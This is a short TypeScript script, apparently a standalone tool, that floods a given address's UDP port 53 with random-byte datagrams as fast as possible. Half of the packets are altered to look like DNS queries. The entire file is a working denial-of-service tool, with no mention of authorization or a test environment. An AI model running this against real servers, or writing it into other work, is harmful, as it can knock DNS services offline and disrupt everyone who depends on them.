/** `flood.ts ADDRESS COUNT`: datagrams of random bytes, and answers that nobody asked for, as fast as they go. */
import { randomBytes, randomInt } from "node:crypto";
import { createSocket } from "node:dgram";

const [address = "", count = "0"] = process.argv.slice(2);
const socket = createSocket("udp4");
socket.on("message", () => undefined);
socket.connect(53, address, () => {
  let left = Number(count);
  const more = () => {
    for (let n = 0; n < 200 && left > 0; n++, left--) {
      const bytes = randomBytes(randomInt(1, 600));
      // Every other one looks like a question.
      if (left % 2 === 0 && bytes.length > 12) bytes.writeUInt16BE(0x0100, 2);
      socket.send(bytes, () => undefined);
    }
    if (left > 0) setImmediate(more);
    else setTimeout(() => socket.close(), 100);
  };
  more();
});
